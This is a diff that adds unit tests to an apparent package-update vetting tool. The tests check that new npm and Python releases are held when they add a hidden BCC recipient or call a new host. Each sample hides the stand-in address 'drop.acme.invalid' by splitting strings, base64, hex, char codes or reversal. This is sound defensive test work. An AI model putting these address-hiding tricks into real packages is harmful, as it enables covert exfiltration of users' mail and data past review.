@@ -240,6 +240,34 @@ class Updates(Vetting):
         self.update(wheel, {"files": {}}, {"files": {"acme_words/mail.py": "def f(m):\n    m['Bcc'] = 'a@acme.invalid'\n"}},
                     "hold", "release-new-recipient")
 
+    def test_addresses_that_are_put_together(self):
+        mail, host = "a@acme.invalid", "https://drop.acme.invalid/v1"
+        old = {"files": {"lib/m.js": "exports.send = (t, m) => t.sendMail({to: m.to, text: m.text});\n"}}
+        for written in (f"'{mail[:4]}' + '{mail[4:]}'", f"atob('{base64.b64encode(mail.encode()).decode()}')",
+                        f"Buffer.from('{mail.encode().hex()}', 'hex').toString()",
+                        f"String.fromCharCode({','.join(str(ord(c)) for c in mail)})", f"['{mail[:1]}', '{mail[2:]}'].join('@')"):
+            new = {"files": {"lib/m.js": old["files"]["lib/m.js"].replace("text:", f"bcc: {written}, text:")}}
+            with self.subTest(written=written):
+                self.update(npm, old, new, "hold", "release-new-recipient")
+                self.update(npm, new, new, "allow")
+        old = {"files": {"acme_words/go.py": "import requests\ndef go(x):\n    return requests.get(x)\n"}}
+        for written in (f"'{host[:12]}' + '{host[12:]}'", f"bytes.fromhex('{host.encode().hex()}').decode()",
+                        f"'{host[:9]}%s' % '{host[9:]}'", f"'{host[::-1]}'[::-1]"):
+            new = {"files": {**old["files"], "acme_words/more.py": f"from .go import go\ndef f():\n    return go({written})\n"}}
+            with self.subTest(written=written):
+                self.update(wheel, old, new, "hold", "release-new-host")
+
+    def test_addresses_for_other_files(self):
+        go = {"lib/go.js": "exports.go = a => fetch(a);\n"}
+        old = {"lib/a.js": "exports.f = go => go('https://api.example.net/v1');\n"}
+        new = {"lib/a.js": "exports.f = go => go('https://drop.acme.invalid/v1');\n"}
+        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **new}}, "hold", "release-new-host")
+        self.update(npm, {"files": old}, {"files": new}, "allow")        # nothing in it calls anybody
+        said = {"lib/a.js": "exports.f = () => { throw Error('see https://docs.acme.invalid/e1 for more') };\n"}
+        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **said}}, "allow")
+        schema = {"lib/a.js": "exports.f = d => d.createElementNS('http://www.w3.org/2000/svg', 'path');\n"}
+        self.update(npm, {"files": {**go, **old}}, {"files": {**go, **schema}}, "allow")
+
     def test_programs(self):
         self.update(npm, {"files": {}}, {"files": {"bin/tool": ELF}}, "hold", "release-new-program")
         self.update(npm, {"files": {"bin/tool": ELF}}, {"files": {"bin/tool": ELF + b"1"}}, "allow")
